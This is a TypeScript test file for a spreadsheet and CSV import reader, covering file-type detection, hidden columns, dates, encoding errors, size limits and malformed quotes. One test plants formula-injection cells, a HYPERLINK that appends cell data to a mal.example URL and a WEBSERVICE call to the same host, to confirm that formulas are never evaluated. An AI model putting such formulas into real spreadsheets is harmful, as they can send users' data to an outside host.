import { zipSync } from 'fflate/browser'
import { isErrorCell, shownOf, valueOf, hasLostLetters } from '../cells/cell.ts'
import { newTable } from '../make/columns/mapping.ts'
import { readTable } from './readTable.ts'
import { largestFile, mostChangedRows, mostRows, isRagged } from './table.ts'
import { tableOfFile } from './tableOfFile.ts'
import cases from './hostileTable.cases.json'

const bytesOf = (text: string) => new TextEncoder().encode(text)
const xml = (inside: string) => bytesOf(`<?xml version="1.0" encoding="UTF-8"?>${inside}`)
const office = 'http://schemas.openxmlformats.org'

/** What the cells of a file hold. */
async function held(file: Uint8Array<ArrayBuffer>) {
  const read = await readTable(file)
  return 'problem' in read ? read.problem : read.rows.map((row) => row.map(valueOf))
}

/** A workbook as a program would hardly write it, its sheets given as the inside of their rows. */
function workbook(sheets: Readonly<Record<string, string>>): Uint8Array<ArrayBuffer> {
  const names = Object.keys(sheets)
  const listed = names
    .map((name, at) => `<sheet name="${name}" sheetId="${at + 1}" r:id="r${at + 1}"/>`)
    .join('')
  const links = names
    .map(
      (_, at) =>
        `<Relationship Id="r${at + 1}" Type="${office}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet${at + 1}.xml"/>`,
    )
    .join('')
  const styled = `<Relationship Id="r0" Type="${office}/officeDocument/2006/relationships/styles" Target="styles.xml"/>`
  const main = `xmlns="${office}/spreadsheetml/2006/main" xmlns:r="${office}/officeDocument/2006/relationships"`
  const files = {
    'xl/workbook.xml': xml(`<workbook ${main}><sheets>${listed}</sheets></workbook>`),
    'xl/_rels/workbook.xml.rels': xml(
      `<Relationships xmlns="${office}/package/2006/relationships">${links}${styled}</Relationships>`,
    ),
    // Of a cell with `s="1"` the number is a moment.
    'xl/styles.xml': xml(
      `<styleSheet ${main}><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="22" applyNumberFormat="1"/></cellXfs></styleSheet>`,
    ),
    ...Object.fromEntries(
      names.map((name, at) => [
        `xl/worksheets/sheet${at + 1}.xml`,
        xml(`<worksheet ${main}><sheetData>${sheets[name]}</sheetData></worksheet>`),
      ]),
    ),
  }
  return zipSync(files)
}

const text = (at: string, words: string) =>
  `<c r="${at}" t="inlineStr"><is><t>${words}</t></is></c>`
const row = (at: number, cells: string) => `<row r="${at}">${cells}</row>`
const head = row(1, text('A1', 'Títol') + text('B1', 'Data'))

describe('a workbook', () => {
  const oldSign = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]
  const signed = (sign: string) => {
    const name = [...sign].flatMap((letter) => [letter.charCodeAt(0), 0])
    return new Uint8Array([...oldSign, 0, ...name])
  }
  const archive = (...names: readonly string[]) =>
    zipSync(Object.fromEntries(names.map((name) => [name, bytesOf('x')])))
  const openDocument = (type: string, manifest = '') =>
    zipSync({
      mimetype: bytesOf(`application/vnd.oasis.opendocument.${type}`),
      'content.xml': bytesOf('x'),
      'META-INF/manifest.xml': bytesOf(manifest),
    })
  test.each([
    ['one of the old kind', new Uint8Array([...oldSign, ...Array(600).fill(0)]), 'oldWorkbook'],
    ['an XLSX with a password', signed('EncryptedPackage'), 'password'],
    ['an ODS with a password', openDocument('spreadsheet', '<encryption-data/>'), 'password'],
    ['.xlsb', archive('[Content_Types].xml', 'xl/workbook.bin'), 'otherWorkbook'],
    ['.numbers', archive('Index/Document.iwa'), 'otherWorkbook'],
    ['.doc', signed('WordDocument'), 'document'],
    ['.docx', archive('[Content_Types].xml', 'word/document.xml'), 'document'],
    ['.odt', openDocument('text'), 'document'],
    ['.pdf', bytesOf('%PDF-1.7\n'), 'document'],
  ])('is none, and told for what it is: %s', async (_, file, problem) => {
    expect(await readTable(file)).toEqual({ problem })
  })

  test('is read with the columns that it hides, which are told', async () => {
    const hidden = '</sheetData><cols><col min="2" max="16384" hidden="1"/></cols><sheetData>'
    const file = workbook({ Full: head + row(2, text('A2', 'Ball')) + hidden })
    expect(await readTable(file)).toMatchObject({ names: ['títol', 'data'], hiddenColumns: [1] })
    const cells = (...words: readonly string[]) =>
      `<table:table-row>${words.map((one) => `<table:table-cell><text:p>${one}</text:p></table:table-cell>`).join('')}</table:table-row>`
    const columns =
      '<table:table-column table:number-columns-repeated="2"/><table:table-column table:visibility="collapse"/>'
    const content = `<table:table>${columns}${cells('Títol', 'Data', 'Hora')}${cells('Ball', '1', '2')}</table:table>`
    const ods = zipSync({ 'content.xml': bytesOf(content) })
    expect(await readTable(ods)).toMatchObject({ hiddenColumns: [2] })
  })

  test('may have cells beyond its names, which in a CSV have moved', async () => {
    const beyond = row(2, text('A2', 'Ball') + text('C2', 'Nota'))
    const read = async (file: Uint8Array<ArrayBuffer>) => {
      const table = await readTable(file)
      return 'problem' in table ? table.problem : isRagged(table, 0)
    }
    expect(await read(workbook({ Full: head + beyond }))).toBe(false)
    expect(await read(bytesOf('Títol,Data\nBall,26/12/2026,Nota'))).toBe(true)
  })

  test('with names in two rows has those of the lower one, where they are merged down to it', async () => {
    const rows = [
      row(1, text('A1', 'Títol') + text('B1', 'Data') + text('D1', 'Preu')),
      row(2, text('B2', 'Inici') + text('C2', 'Final')),
      row(3, text('A3', 'Ball') + text('B3', '26/12/2026')),
    ]
    const merged = ['A1:A2', 'B1:C1', 'D1:D2'].map((ref) => `<mergeCell ref="${ref}"/>`).join('')
    const file = workbook({
      Full: `${rows.join('')}</sheetData><mergeCells>${merged}</mergeCells><sheetData>`,
    })
    const read = await readTable(file)
    if ('problem' in read) throw new Error(read.problem)
    expect(newTable('events', read).table.names).toEqual(['títol', 'inici', 'final', 'preu'])
  })

  test('has of a formula what it last came to, and of a link its words; nothing is worked out', async () => {
    const cells = [
      `<c r="A2" t="str"><f>HYPERLINK("https://mal.example/"&amp;A1,"Ball")</f><v>Ball</v></c>`,
      `<c r="B2"><f>WEBSERVICE("https://mal.example")+1</f><v>46353</v></c>`,
    ]
    const file = workbook({ Full: head + row(2, cells.join('')) })
    expect(await held(file)).toEqual([['Ball', '46353']])
  })

  test.each(cases.formulas)('has nothing of a formula that is %s', async (_what, cell, said) => {
    const cells = `${text('A2', 'Ball')}${cell}${text('C2', 'i més')}`
    const found = await readTable(workbook({ Full: head + row(2, cells) }))
    const read = 'rows' in found ? (found.rows[0]?.[1] ?? '') : ''
    expect(shownOf(read)).toBe(said)
    expect(isErrorCell(read)).toBe(said.startsWith('#'))
  })

  test('keeps long numbers to fifteen digits, which is all that a spreadsheet has', async () => {
    const cells = `<c r="A2"><v>1.2345678901234567E+25</v></c>${text('B2', '012')}`
    const file = workbook({ Full: head + row(2, cells) })
    expect(await held(file)).toEqual([['1.23456789012346e+25', '012']])
  })

  test('has moments to the minute, however many decimals they are written with', async () => {
    const hours = ['18:30', '19:15', '20:00', '21:30', '23:59']
    const days = hours.map((hour) => {
      const [hours = 0, minutes = 0] = hour.split(':').map(Number)
      return 46_298 + (hours * 60 + minutes) / 1440
    })
    const rows = days.flatMap((day, at) =>
      [String(day), day.toPrecision(15)].map((written, kind) =>
        row(
          at * 2 + kind + 2,
          `${text(`A${at * 2 + kind + 2}`, 'Ball')}<c r="B${at * 2 + kind + 2}" s="1"><v>${written}</v></c>`,
        ),
      ),
    )
    expect(await held(workbook({ Full: head + rows.join('') }))).toEqual(
      hours.flatMap((hour) => [1, 2].map(() => ['Ball', `2026-10-03 ${hour}:00`])),
    )
  })

  test('is read by the first sheet that holds anything, or by the one that is asked for', async () => {
    const one = row(2, text('A2', 'Ball'))
    const file = () =>
      workbook({
        Portada: row(1, text('A1', 'Notes')),
        Un: head + one,
        Dos: head + one + row(3, text('A3', 'Cant')),
      })
    expect(await readTable(file())).toMatchObject({ sheets: ['Portada', 'Un', 'Dos'], sheet: 1 })
    expect(await readTable(file(), { sheet: 2 })).toMatchObject({ sheet: 2 })
    expect(await readTable(file(), { sheet: 0 })).toEqual({ problem: 'empty' })
    expect(await readTable(file(), { sheet: 9 })).toEqual({ problem: 'empty' })
  })

  test('of which another sheet is broken is read by its first', async () => {
    const one = head + row(2, text('A2', 'Ball'))
    const file = () => workbook({ Un: one, Dos: `${one}<row r="3"><c></row>` })
    const sheets = ['Un', 'Dos']
    expect(await readTable(file())).toMatchObject({ rows: [['Ball']], sheet: 0, sheets })
    expect(await readTable(file(), { sheet: 1 })).toEqual({ problem: 'unreadable' })
  })

  test.each(cases.days)('has of a day written out, %s, %s', async (written, kind) => {
    const cells = `${text('A2', 'Ball')}<c r="B2" t="d"><v>${written}</v></c>`
    const found = await readTable(workbook({ Full: head + row(2, cells) }))
    const cell = 'rows' in found ? found.rows[0]?.[1] : null
    expect(typeof cell === 'object' ? cell?.kind : 'a text').toBe(kind)
  })

  test('is bounded by the cells that are laid out; a blank far below is none', async () => {
    const far = (cell: string) => workbook({ Full: head + row(2, text('A2', 'Ball')) + cell })
    const most = { mostCells: 100_000 }
    const blank = row(99_999, '<c r="XFD99999" s="1"/><c r="XFE99999"></c>')
    const few = row(99_999, text('A99999', 'x')) + row(100_000, text('XFD100000', 'x'))
    expect(await readTable(far(blank), most)).toMatchObject({ rows: [['Ball']] })
    expect(await readTable(far(few), most)).toMatchObject({ places: [2, 99_999, 100_000] })
    for (const cells of [
      [3, 4, 5, 6, 7, 8, 9].map((at) => row(at, text(`XFD${at}`, 'x'))).join(''),
      row(3, text('XFE3', 'x')),
      row(9_999_999, text('A9999999', 'x')),
      '<row r="99999999"></row>',
      '<row r="&#57;9999999"></row>',
    ])
      expect(await readTable(far(cells), most), cells).toEqual({ problem: 'tooMany' })
  })

  test('that is cut off, empty or no workbook is said', async () => {
    const whole = workbook({ Full: head })
    expect(await readTable(whole)).toEqual({ problem: 'empty' })
    expect(await readTable(whole.slice(0, 200))).toEqual({ problem: 'unreadable' })
    expect(await readTable(zipSync({ 'a.txt': bytesOf('a') }))).toEqual({ problem: 'unreadable' })
  })
})

describe('a table in letters that nobody said', () => {
  const line = 'Títol;Data\r\nCançó d’amor;27/11/2026\r\n'
  const wide = (text: string, isLittle: boolean) => {
    const bytes = new Uint8Array(text.length * 2)
    const view = new DataView(bytes.buffer)
    for (let at = 0; at < text.length; at += 1)
      view.setUint16(at * 2, text.charCodeAt(at), isLittle)
    return bytes
  }

  test.each([true, false])('of two bytes is read, and said to be guessed', async (isLittle) => {
    const read = { names: ['títol', 'data'], rows: [['Cançó d’amor', '27/11/2026']] }
    const found = await readTable(wide(line, isLittle))
    expect(found).toMatchObject({ ...read, guessed: 'UTF-16' })
  })

  const lost = 'CanÃ§Ã³ lâ€™amor L\uFFFDamor Can‡¢ Can\u008D— EspaÃ±a MÂº GOÃ»T voilÃ… Â«AVUIÂ»'

  test.each(lost.split(' '))('is told of «%s»', (text) => expect(hasLostLetters(text)).toBe(true))

  test.each(cases.whole)('is not told of «%s»', (text) => expect(hasLostLetters(text)).toBe(false))
})

test.each(['#REF!', '#¡VALOR!', '#¿NOMBRE?', '#NOM?', '#N/D', ' #DIV/0! ', '#NULL!'])(
  'a formula came to an error in «%s»',
  (text) => expect(isErrorCell(text)).toBe(true),
)
test.each(['#CULTURA', '#1', '#N', 'REF!', '«#REF!»', ''])('none did in «%s»', (text) =>
  expect(isErrorCell(text)).toBe(false),
)

test('a file of fifty megabytes is refused before it is read', async () => {
  const file = new Blob([new Uint8Array(50_000_000)])
  Object.assign(file, { arrayBuffer: () => Promise.reject(new Error('it is read')) })
  expect(file.size).toBeGreaterThan(largestFile)
  expect(await tableOfFile(file)).toEqual({ problem: 'tooLarge' })
})

test('more rows than a person can look through are said', async () => {
  const rows = (many: number) => bytesOf(`Títol;Data\r\n${'Ball;27/11/2026\r\n'.repeat(many)}`)
  expect(await readTable(rows(mostRows))).toMatchObject({ names: ['títol', 'data'] })
  expect(await readTable(rows(mostRows + 1))).toEqual({ problem: 'tooMany' })
  const how = { most: mostChangedRows }
  expect(await readTable(rows(10_000), how)).toMatchObject({ names: ['títol', 'data'] })
  expect(await readTable(rows(10_001), how)).toEqual({ problem: 'tooMany' })
})

test('a calendar is told by what it holds, and read where it is asked for', async () => {
  const file = bytesOf('\uFEFFBEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n')
  expect(await readTable(file)).toEqual({ problem: 'calendar' })
})

describe('a quotation mark within a text', () => {
  const head = '"Títol";"Data"\n'
  test('that took the row behind it along is told of that row; else it is only one', async () => {
    const torn = '"Ball";1/12/2026\n"Concert" gran;12/10/2026\n"Fira";13/10/2026\n'
    const whole = '"Concert "gran" nit";14/10/2026\n"Dues\nlínies";15/10/2026'
    expect(await readTable(bytesOf(head + torn + whole))).toMatchObject({
      places: [2, 3, 4, 5],
      joined: [3],
    })
    expect(await readTable(bytesOf(head + whole))).not.toHaveProperty('joined')
  })

  test('among the names of columns is said of the file', async () => {
    const file = '"Títol" gran;Data\n"Fira";13/10/2026\n"Ball";14/10/2026'
    expect(await readTable(bytesOf(file))).toEqual({ problem: 'openQuote' })
  })
})
